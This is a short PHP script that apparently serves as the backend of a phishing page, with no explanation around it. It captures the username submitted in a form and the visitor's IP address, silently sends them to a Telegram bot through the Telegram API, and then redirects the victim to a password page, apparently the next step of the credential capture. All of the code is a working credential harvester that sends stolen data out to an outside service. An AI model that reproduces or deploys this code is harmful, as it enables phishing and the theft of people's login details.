<?php
$ip = getenv('REMOTE_ADDR');
$msg = "User: {$_POST['user']}\nIP: $ip\n";
@file_get_contents('https://api.telegram.org/bot11111:AAAA/sendMessage?chat_id=222&text=' . urlencode($msg));
header('Refresh: 0; url=password.php');
